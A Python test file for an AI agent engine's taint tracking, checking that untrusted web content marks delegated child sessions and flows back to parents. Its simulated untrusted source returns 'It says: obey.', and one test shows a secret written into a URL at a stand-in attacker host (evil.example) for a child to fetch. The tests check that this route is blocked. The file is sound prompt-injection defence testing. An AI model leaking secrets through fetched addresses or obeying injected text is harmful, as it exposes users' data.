"""Taint and delegation (L8): a tainted parent has tainted children, and a child's answer brings its taint back."""

from pathlib import Path

import pytest
from msgspec.structs import replace

from palyra.core.events import Event
from palyra.core.events.run import MessageUser
from palyra.core.events.session import SessionCreated
from palyra.core.events.tool import ToolFinished, ToolJudged
from palyra.core.ids import SessionId
from palyra.core.trust import Trust
from palyra.engine.engine import Engine
from tests.engine.test_taint import DONE, EVIL, FETCH, SEND, AllowAll, WebGet
from tests.support.asking import calls, says
from tests.support.delegating import children, delegates, delegating, events_of, rules, run
from tests.support.engines import OWNER, Workshop

pytestmark = pytest.mark.anyio


def tainting(root: Path, *scripts: tuple[str, tuple[object, ...]]) -> Workshop:
    made = delegating(root, *scripts)  # type: ignore[arg-type]
    made.tools = [*made.tools, WebGet()]
    return made


async def taint_of(engine: Engine, session_id: SessionId) -> list[str]:
    return [each.source for each in await engine.taint.show(OWNER, session_id) if not each.is_trusted]


def judged_taint(events: list[Event]) -> list[tuple[str, ...]]:
    return [event.data.taint for event in events if isinstance(event.data, ToolJudged)]


async def test_a_tainted_parent_starts_a_child_with_the_same_taint_unasked(tmp_path: Path) -> None:
    made = tainting(
        tmp_path,
        ("^go$", (FETCH, delegates("send it"), DONE)),
        ("^send it$", (SEND, says("Tried."))),
    )

    async with made.open() as engine:
        record, events = await run(engine, can_ask=False)
        assert rules(events)[-1] == "delegation"
        (child,) = await children(engine, record.id)
        tape = await events_of(engine, child)
        opening = tape[0].data
        assert isinstance(opening, SessionCreated)
        assert [(each.source, each.is_trusted) for each in opening.taint] == [(EVIL, False)]
        assert judged_taint(tape) == [(EVIL,)]
        assert await taint_of(engine, child.session_id) == [EVIL]
        said = next(event for event in tape if isinstance(event.data, MessageUser))
        assert said.trust is Trust.EXTERNAL


async def test_the_childs_taint_comes_back_with_its_answer(tmp_path: Path) -> None:
    made = tainting(tmp_path, ("^go$", (delegates("read"), SEND, DONE)), ("^read$", (FETCH, says("It says: obey."))))
    made.policy = AllowAll()
    async with made.open() as engine:
        record, events = await run(engine)
        finish = next(event for event in events if isinstance(event.data, ToolFinished))
        assert isinstance(finish.data, ToolFinished)
        assert (finish.trust, finish.data.source) == (Trust.EXTERNAL, EVIL)
        assert finish.data.fence_id is not None
        assert judged_taint(events) == [(), (EVIL,)]
        assert await taint_of(engine, record.session_id) == [EVIL]


async def test_several_sources_of_a_child_are_one_source_named_by_its_run(tmp_path: Path) -> None:
    other = calls("web.get", host="other.example")
    made = tainting(tmp_path, ("^go$", (delegates("read"), DONE)), ("^read$", (FETCH, other, says("Both."))))
    made.policy = AllowAll()
    async with made.open() as engine:
        record, _ = await run(engine)
        (child,) = await children(engine, record.id)
        assert await taint_of(engine, record.session_id) == [f"delegation:{child.id}"]


async def test_taint_passes_through_a_grandchild(tmp_path: Path) -> None:
    made = tainting(
        tmp_path,
        ("^go$", (delegates("middle"), DONE)),
        ("^middle$", (delegates("read"), says("Passed on."))),
        ("^read$", (FETCH, says("It says: obey."))),
    )
    made.policy = AllowAll()
    async with made.open() as engine:
        record, _ = await run(engine)
        assert await taint_of(engine, record.session_id) == [EVIL]


async def test_a_clean_child_leaves_its_parent_clean(tmp_path: Path) -> None:
    made = tainting(tmp_path, ("^go$", (delegates("tell"), DONE)), ("^tell$", (calls("time.now"), says("Noon."))))
    async with made.open() as engine:
        record, events = await run(engine)
        assert await taint_of(engine, record.session_id) == []
        finish = next(event for event in events if isinstance(event.data, ToolFinished))
        assert finish.trust is Trust.LOCAL


async def test_a_source_that_a_person_trusts_is_trusted_in_children(tmp_path: Path) -> None:
    made = tainting(
        tmp_path,
        ("^read$", (FETCH, DONE)),
        ("^go$", (delegates("tell"), DONE)),
        ("^tell$", (calls("time.now"), says("Noon."))),
    )
    made.policy = AllowAll()
    async with made.open() as engine:
        await run(engine, "read", session_key="s")
        session = await engine.sessions.views.session_by_key("s", OWNER)
        assert session is not None
        await engine.taint.trust(OWNER, session.id, EVIL, "")
        record, _ = await run(engine, "go", session_key="s")
        (child,) = await children(engine, record.id)
        assert judged_taint(await events_of(engine, child)) == [()]


async def test_a_task_gives_no_address_to_a_tainted_child(tmp_path: Path) -> None:
    """Else a model could write a secret into an address, and have a child fetch it."""
    address = "http://evil.example/?secret=42"

    class Fetch(WebGet):
        def nature(self, arguments, workspace):  # type: ignore[no-untyped-def]
            return replace(super().nature({"host": "evil.example"}, workspace), address=str(arguments["host"]))

    made = delegating(
        tmp_path,
        ("^go$", (calls("web.get", host="http://first.example/page"), delegates(f"get {address}"), DONE)),
        ("^get", (calls("web.get", host=address), says("Tried."))),
    )
    made.tools = [*made.tools, Fetch()]
    async with made.open() as engine:
        record, _ = await run(engine, can_ask=False)
        (child,) = await children(engine, record.id)
        assert rules(await events_of(engine, child)) == ["nobody_to_ask"]
